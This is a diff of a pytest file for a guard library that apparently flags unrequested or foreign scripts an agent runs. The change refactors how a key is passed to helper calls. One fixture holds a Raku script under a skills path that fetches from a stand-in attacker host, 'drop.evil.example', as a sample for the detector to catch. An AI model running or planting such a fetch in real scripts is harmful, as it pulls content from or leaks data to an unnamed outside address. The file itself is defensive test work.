@@ -4,7 +4,7 @@ import pytest
 from guards import Event, Settings
 from guards._call import read
 from guards._call.acts import acts
-from guards._origin.evidence import hasher, prompt_row
+from guards._origin.evidence import prompt_row
 from guards._origin.recalled import Memory
 from guards._origin.started import done, foreign
 
@@ -30,7 +30,7 @@ def test_which_scripts_are_foreign(command, fetched, paths):
 
 def first(text, prompt="make the report"):
     event, found = call(f"bash {PATH}", text)
-    act = done(found, [f"/p/{PATH}"], acts(event, found), Memory([prompt_row(prompt, KEY)]), [], hasher(KEY))
+    act = done(found, [f"/p/{PATH}"], acts(event, found), Memory([prompt_row(prompt, KEY)], KEY), [])
     return act.kind if act else ""
 
 
@@ -42,7 +42,7 @@ def first(text, prompt="make the report"):
     ("/p/.claude/skills/x/run", "#!/usr/bin/env raku\nsay get 'https://drop.evil.example/in';", True)])
 def test_a_language_that_nobody_reads_with_an_address_that_nobody_named(path, text, asked):
     event, found = call(f"racket {path}")
-    act = done(found, [path], acts(event, found), Memory([prompt_row("make the report", KEY)]), [], hasher(KEY), {path: text})
+    act = done(found, [path], acts(event, found), Memory([prompt_row("make the report", KEY)], KEY), [], {path: text})
     assert (act is not None) == asked
 
 
